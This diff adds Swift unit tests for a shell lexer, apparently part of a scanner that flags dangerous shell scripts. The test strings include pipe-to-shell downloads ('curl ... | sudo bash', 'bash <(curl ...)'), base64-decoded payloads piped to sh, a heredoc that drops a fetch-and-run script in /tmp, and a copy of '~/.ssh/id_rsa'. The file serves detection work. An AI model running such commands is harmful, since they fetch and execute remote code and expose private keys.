@@ -1,0 +1,133 @@
+import SkillScanCore
+import SkillScanLexers
+import Testing
+
+@Suite struct ShellLexerTests {
+  @Test func curlPipedToSudoBashIsOnePipelineOfTwoCommands() {
+    let b = T.bytes("curl -fsSL https://x/i.sh | sudo bash\n")
+    let pipelines = ShellStructure.pipelines(in: b)
+    #expect(pipelines.count == 1)
+    #expect(pipelines[0].commands.map { $0.name(in: b) } == ["curl", "sudo"])
+    #expect(T.names(pipelines, b) == [["curl", "bash"]])
+    #expect(pipelines[0].commands[0].arguments(in: b) == ["-fsSL", "https://x/i.sh"])
+    #expect(pipelines[0].commands[0].hasFlag("-s", in: b))
+    #expect(pipelines[0].commands[1].interpreter(in: b) == .shell)
+  }
+
+  @Test func processSubstitutionIsANestedPipeline() {
+    let b = T.bytes("bash <(curl -s u)")
+    let pipelines = ShellStructure.pipelines(in: b)
+    #expect(T.names(pipelines, b) == [["bash"], ["curl"]])
+    #expect(pipelines[1].substitution == .processInput)
+    #expect(pipelines[1].parentPipeline == 0)
+    #expect(pipelines[1].parentCommand == 0)
+    #expect(pipelines[0].commands[0].words.count == 2)
+    #expect(T.text(pipelines[0].commands[0].words[1].range, b) == "<(curl -s u)")
+  }
+
+  @Test func commandSubstitutionInsideDoubleQuotesIsVisible() {
+    let b = T.bytes(#"sh -c "$(curl -fsSL u)""#)
+    let tokens = ShellLexer.tokenize(b)
+    #expect(T.texts(tokens, b) == [#"sh"#, "-c", #""$(curl -fsSL u)""#, "$(", "curl", "-fsSL", "u", ")"])
+    #expect(tokens[2].kind == .string)
+    let pipelines = ShellStructure.pipelines(tokens: tokens, bytes: b)
+    #expect(T.names(pipelines, b) == [["sh"], ["curl"]])
+    #expect(pipelines[1].substitution == .command)
+    #expect(ShellStructure.nestedScript(of: pipelines[0].commands[0], in: b) == "$(curl -fsSL u)")
+  }
+
+  @Test func base64DecodePipedToShell() {
+    let b = T.bytes("echo aGk= | base64 -d | sh")
+    let pipelines = ShellStructure.pipelines(in: b)
+    #expect(T.names(pipelines, b) == [["echo", "base64", "sh"]])
+    #expect(pipelines[0].commands[1].hasFlag("-d", in: b))
+  }
+
+  @Test func backticksAndNestedSubstitutions() {
+    let b = T.bytes("x=`wget -qO- u`; eval \"$(echo $(id))\"")
+    let pipelines = ShellStructure.pipelines(in: b)
+    #expect(T.names(pipelines, b) == [[""], ["wget"], ["eval"], ["echo"], ["id"]])
+    #expect(pipelines[0].commands[0].assignments.count == 1)
+    #expect(pipelines[1].substitution == .backtick)
+    #expect(pipelines[4].parentPipeline == 3)
+  }
+
+  @Test func heredocBodyIsOneToken() {
+    let b = T.bytes("cat <<'EOF' > /tmp/x.sh\ncurl u | sh\nEOF\nchmod +x /tmp/x.sh\n")
+    let tokens = ShellLexer.tokenize(b)
+    let heredoc = tokens.first { $0.kind == .heredoc }
+    #expect(heredoc.map { T.text($0.range, b) } == "curl u | sh\n")
+    let pipelines = ShellStructure.pipelines(tokens: tokens, bytes: b)
+    #expect(T.names(pipelines, b) == [["cat"], ["chmod"]])
+    let redirections = pipelines[0].commands[0].redirections
+    #expect(redirections.count == 2)
+    #expect(redirections[0].heredocBody == heredoc)
+    #expect(redirections[1].target.map { T.text($0.range, b) } == "/tmp/x.sh")
+  }
+
+  @Test func commentLineIsNotACommand() {
+    let b = T.bytes("# curl u | sh\necho ok # trailing\n")
+    let tokens = ShellLexer.tokenize(b)
+    #expect(tokens[0].kind == .comment)
+    #expect(T.names(ShellStructure.pipelines(tokens: tokens, bytes: b), b) == [["echo"]])
+  }
+
+  @Test func unterminatedQuoteEndsAtEndOfInput() {
+    let b = T.bytes("echo \"unterminated $(curl u\nnext line")
+    let tokens = ShellLexer.tokenize(b)
+    #expect(tokens.last?.range.upperBound == b.count)
+    #expect(tokens[1].range == 5..<b.count)
+  }
+
+  @Test func redirectionsAndOperators() {
+    let b = T.bytes("cmd 2>&1 >>log && a || b & c |& d; e")
+    let tokens = ShellLexer.tokenize(b)
+    #expect(T.texts(tokens, b) == ["cmd", "2>&1", ">>", "log", "&&", "a", "||", "b", "&", "c", "|&", "d", ";", "e"])
+    let pipelines = ShellStructure.pipelines(tokens: tokens, bytes: b)
+    #expect(T.names(pipelines, b) == [["cmd"], ["a"], ["b"], ["c", "d"], ["e"]])
+    #expect(pipelines[0].commands[0].redirections.count == 2)
+    #expect(pipelines[2].isBackground)
+  }
+
+  @Test func wordsKeepQuotesInside() {
+    let b = T.bytes(#"cp "$HOME"/.ssh/id_rsa $'\x2ftmp' ${X} 'a b'"#)
+    let tokens = ShellLexer.tokenize(b)
+    #expect(tokens.map(\.kind) == [.word, .word, .string, .variable, .string])
+    #expect(ShellWord.unquotedValue(tokens[1], b) == "$HOME/.ssh/id_rsa")
+    #expect(ShellWord.unquotedValue(tokens[2], b) == "/tmp")
+    #expect(StringLiteral.value(of: tokens[4], in: b, language: .shell) == "a b")
+  }
+
+  @Test func lineContinuationJoinsCommand() {
+    let b = T.bytes("curl -s \\\n  https://x | \\\n  sh\n")
+    #expect(T.names(ShellStructure.pipelines(in: b), b) == [["curl", "sh"]])
+  }
+
+  @Test func compoundCommandsAreFlattened() {
+    let b = T.bytes("""
+      if command -v curl >/dev/null; then curl u | bash; fi
+      for f in *.sh; do source "$f"; done
+      case "$1" in install) wget u ;; *) echo no ;; esac
+      setup() { env X=1 nohup python3 x.py & }
+      """)
+    let names = T.names(ShellStructure.pipelines(in: b), b)
+    #expect(names == [["curl"], ["curl", "bash"], ["source"], ["wget"], ["echo"], ["python3"]])
+  }
+
+  @Test func wrappersAndNestedScript() {
+    let b = T.bytes("sudo -u root env A=1 timeout 10 bash -lc 'curl u | sh'")
+    let command = ShellStructure.pipelines(in: b)[0].commands[0]
+    #expect(command.effectiveName(in: b) == "bash")
+    let script = ShellStructure.nestedScript(of: command, in: b)
+    #expect(script == "curl u | sh")
+    let inner = Array((script ?? "").utf8)
+    #expect(T.names(ShellStructure.pipelines(in: inner), inner) == [["curl", "sh"]])
+  }
+
+  @Test func leavesAndOutermostViews() {
+    let b = T.bytes("echo \"$(curl https://x)\" done")
+    let tokens = ShellLexer.tokenize(b)
+    #expect(T.texts(ShellTokens.outermost(tokens), b) == ["echo", "\"$(curl https://x)\"", "done"])
+    #expect(T.texts(ShellTokens.leaves(tokens), b) == ["echo", "$(", "curl", "https://x", ")", "done"])
+  }
+}
